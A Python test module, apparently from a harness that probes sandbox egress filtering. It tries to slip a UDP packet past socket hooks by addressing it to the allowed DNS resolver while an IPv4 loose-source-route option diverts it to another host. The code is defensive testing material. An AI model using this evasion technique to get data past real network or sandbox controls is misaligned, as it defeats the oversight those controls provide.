"""Technique: UDP to the allowed resolver with an IPv4 loose source route (IP_OPTIONS LSRR) via another host.

The socket hooks see the sendmsg() destination, the resolver, and let it
pass; the kernel then sends the packet to the first hop of the route (HOP),
which is where the bytes actually go. Only the egress backstop, which reads
the packet's own header, can stop it (egress_drop). Setting IP options needs
CAP_NET_RAW on this kernel (a plain user gets EPERM from setsockopt).
argv: RESOLVER HOP. ok = the kernel accepted the datagram; the driver
watches lo to see whether it left.
"""
import socket
import sys
import common

IP_OPTIONS = 4
IPOPT_LSRR = 131


def attempt():
    resolver, hop = sys.argv[1], sys.argv[2]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # type, length 7, pointer 4, one hop; an end-of-options byte pads it to 8.
    try:
        s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, bytes([IPOPT_LSRR, 7, 4]) + socket.inet_aton(hop) + b"\0")
    except OSError as e:
        return {"ok": False, "step": "setsockopt", **common.error_fields(e)}
    tok = common.token()
    try:
        s.sendto(("ping %s\n" % tok).encode(), (resolver, 53))
    except OSError as e:
        return {"ok": False, "step": "sendto", "token": tok, **common.error_fields(e)}
    return {"token": tok}


common.main(attempt)
